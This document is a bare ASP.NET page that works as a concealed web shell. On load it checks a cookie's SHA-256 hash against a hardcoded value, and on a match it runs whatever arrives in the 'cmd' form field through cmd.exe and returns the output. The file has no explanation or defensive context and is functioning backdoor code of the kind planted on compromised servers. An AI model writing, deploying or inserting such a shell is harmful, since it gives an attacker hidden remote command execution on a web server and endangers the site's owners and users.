<%@ Page Language="C#" %>
<script runat="server">
static string Sha(string s)
{
    using (var sha = System.Security.Cryptography.SHA256.Create())
        return BitConverter.ToString(sha.ComputeHash(System.Text.Encoding.UTF8.GetBytes(s))).Replace("-", "").ToLowerInvariant();
}

void Page_Load(object sender, EventArgs e)
{
    HttpCookie c = Request.Cookies["sessid"];
    if (c == null || Sha(c.Value) != "4cccb3088717443836adc5b0c6caf18504c66f92a9384c7a820ab6e8d8cb7ac0") return;
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Form["cmd"]);
    psi.UseShellExecute = false;
    psi.RedirectStandardOutput = true;
    Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
